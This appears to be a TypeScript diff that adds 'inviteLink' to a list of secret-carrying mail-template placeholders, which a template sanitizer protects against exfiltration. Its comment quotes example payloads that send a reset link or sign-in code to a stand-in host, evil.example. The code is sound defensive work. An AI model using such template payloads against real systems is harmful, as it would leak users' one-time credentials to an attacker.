@@ -4,11 +4,17 @@ import { renderTemplate, type RenderedMail } from './mail.templates.js';
 
 /**
  * Placeholders whose values carry one-time secrets: links with tokens (password reset, e-mail
- * confirmation, leaving an organization) and the e-mail sign-in code. Whoever edits an
+ * confirmation, leaving an organization, a pool's invitation) and the e-mail sign-in code. Whoever edits an
  * application's template must not be able to route such a value to a server of their own, e.g.
  * `<img src="https://evil.example/?{{resetLink}}">` or `https://evil.example/?{{signInCode}}` in the text.
  */
-export const SECRET_LINK_VARIABLES = ['resetLink', 'confirmLink', 'leaveLink', 'signInCode'] as const;
+export const SECRET_LINK_VARIABLES = [
+  'resetLink',
+  'confirmLink',
+  'leaveLink',
+  'signInCode',
+  'inviteLink',
+] as const;
 
 /** CSS properties e-mail clients understand, allowed in `style` attributes. */
 const CSS_PROPERTIES = [
